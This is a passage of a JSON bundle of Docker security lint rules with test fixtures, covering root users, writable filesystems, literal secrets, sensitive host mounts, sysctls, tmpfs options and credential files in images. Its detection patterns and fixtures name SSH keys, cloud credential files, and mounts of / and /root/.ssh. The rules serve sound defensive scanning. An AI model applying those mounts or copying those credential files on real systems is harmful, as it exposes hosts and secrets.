with at most five retries."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5,"endLine":7,"endColumn":28},{"line":10,"column":5,"endLine":10,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A user spec that means root: the name or UID, with or without a group."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5,"endLine":9,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: a `${VAR}` / `$VAR` interpolation or a `${{ }}` expression. Everything else (except the empty string) counts as a literal."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9,"endLine":11,"endColumn":36}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":76}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"paramSchemas":{"sensitivePaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is a system directory or lies below one. Each directory matches itself and its subpaths only, so `/etc/nginx` matches and `/etcd-data` does not. A whole home (`~`, `/home`, `/home/<user>`) matches, but not a project folder inside one."},"dockerSocket":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The Docker socket, left out here: it has its own, critical rule (container-docker-socket)."},"readOnlyAllowed":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Host files that are harmless to share read-only."}},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9,"endLine":10,"endColumn":18}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":19},{"line":12,"column":9,"endLine":12,"endColumn":19}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":28},{"line":13,"column":9,"endLine":13,"endColumn":38}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11,"endLine":9,"endColumn":21},{"line":13,"column":9,"endLine":13,"endColumn":109},{"line":13,"column":9,"endLine":13,"endColumn":109}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":88}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7,"endLine":6,"endColumn":42},{"line":10,"column":5,"endLine":10,"endColumn":12}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 true\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":48},{"line":11,"column":11,"endLine":11,"endColumn":82}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"paramSchemas":{"unsafeOption":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--tmpfs` / Compose `tmpfs:` entry (`/path:opt,opt`) that turns Docker\'s default `noexec` or `nosuid` back off."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9,"endLine":8,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":33},{"line":10,"column":11,"endLine":10,"endColumn":73}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage {{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1,"endLine":3,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# .dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)[^/]*service-account[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"paramSchemas":{"credentialFile":{"schema":{"type":"string","format":"regex","minLength":1},"description":"File names that hold credentials: dotenv files (not .env.example), SSH private keys, registry and package-index credentials, cloud credentials, private keys and key stores. A project\'s `.npmrc` usually holds only the registry and a `${NPM_TOKEN}` reference, so it is left out; a `.pem` counts only when named as a key (most are public certificates)."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11,"endLine":4,"endColumn":20},{"line":5,"column":6,"endLine":5,"endColumn":23},{"line":5,"column":24,"endLine":5,"endColumn":45},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the 